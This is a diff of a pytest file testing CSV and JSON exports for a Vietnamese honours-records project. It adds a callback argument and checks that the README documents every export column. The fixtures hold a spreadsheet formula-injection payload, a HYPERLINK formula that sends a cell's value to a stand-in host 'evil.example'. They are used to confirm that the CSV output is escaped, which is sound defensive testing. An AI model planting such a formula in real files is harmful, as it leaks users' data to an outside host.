@@ -10,13 +10,14 @@ import csv
 import datetime as dt
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
 
 from bangvang.core.honours import export, reader
 from bangvang.core.honours.model import Decision, HonourEntry, Issuer
-from conftest import Site
+from conftest import REPO, Site
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
 FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]
@@ -33,6 +34,10 @@ def _decision(title: str, names: list[str]) -> Decision:
     )  # fmt: skip
 
 
+def _not_settled(decision: Decision, entry: HonourEntry) -> export.Current:
+    return export.NOT_SETTLED
+
+
 def _records(path: Path) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
 
@@ -41,7 +46,7 @@ def _records(path: Path) -> list[dict[str, str]]:
 def test_csv_cells_that_would_open_as_a_formula_start_with_an_apostrophe(tmp_path: Path, start: str) -> None:
     decision = _decision(start, [start, "Gia đình ông An"])
     path = tmp_path / "a.csv"
-    assert export.write_csv(path, ((decision, e) for e in decision.entries)) == 2
+    assert export.write_csv(path, ((decision, e) for e in decision.entries), _not_settled) == 2
     first, second = _records(path)
     assert first["name"] == first["village"] == first["title"] == "'" + start
     assert first["decision"] == "'-1/QĐ"
@@ -51,10 +56,17 @@ def test_csv_cells_that_would_open_as_a_formula_start_with_an_apostrophe(tmp_pat
 
 def test_json_exports_stay_exact(tmp_path: Path) -> None:
     decision = _decision(HYPERLINK, FORMULA_STARTS)
-    export.write_rows_json(tmp_path / "rows.json", ((decision, e) for e in decision.entries))
-    export.write_decision_json(tmp_path / "a.json", decision, "https://example.org/a/")
+
+    def current(decision: Decision, entry: HonourEntry) -> export.Current:
+        return (f'Xã "{entry.stt}"\\', str(entry.stt), None, "42") if entry.stt % 2 else export.NOT_SETTLED
+
+    export.write_rows_json(tmp_path / "rows.json", ((decision, e) for e in decision.entries), current)
+    export.write_decision_json(tmp_path / "a.json", decision, "https://example.org/a/", current)
     rows = json.loads((tmp_path / "rows.json").read_text(encoding="utf-8"))
     document = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
+    # The province files' records (written a piece at a time) are the decision files' records, keys in column order.
+    assert rows == document["entries"] and all(list(row) == list(export.EXPORT_COLUMNS) for row in rows)
+    assert rows[0]["current_commune"] == 'Xã "1"\\' and rows[1]["current_commune_code"] is None
     assert [r["name"] for r in rows] == [e["name"] for e in document["entries"]] == FORMULA_STARTS
     assert document["title"] == rows[0]["title"] == HYPERLINK and document["issuer"]["name"] == HYPERLINK
     assert document["number"] == "-1/QĐ"
@@ -84,3 +96,11 @@ def test_published_spreadsheets_hold_no_formula(site: Site, monkeypatch: pytest.
     assert document["title"] == document["entries"][0]["title"] == document["issuer"]["name"] == HYPERLINK
     (province_row,) = json.loads((data / "tinh/tinh-ha-tinh.json").read_text(encoding="utf-8"))
     assert province_row["title"] == HYPERLINK
+
+
+def test_every_export_column_is_explained_for_editors() -> None:
+    readme = (REPO / "honours/README.md").read_text(encoding="utf-8")
+    section = readme.split("## 10. Dữ liệu mở", 1)[1].split("\n## ", 1)[0]
+    explained = set(re.findall(r"`([a-z_]+)`", section.split("| Cột | Nghĩa |", 1)[1].split("\n\n", 1)[0]))
+    assert set(export.EXPORT_COLUMNS) <= explained, set(export.EXPORT_COLUMNS) - explained
+    assert export.EXPORT_COLUMNS[-1] == "anchor"  # the manifest reads it as a row's last cell
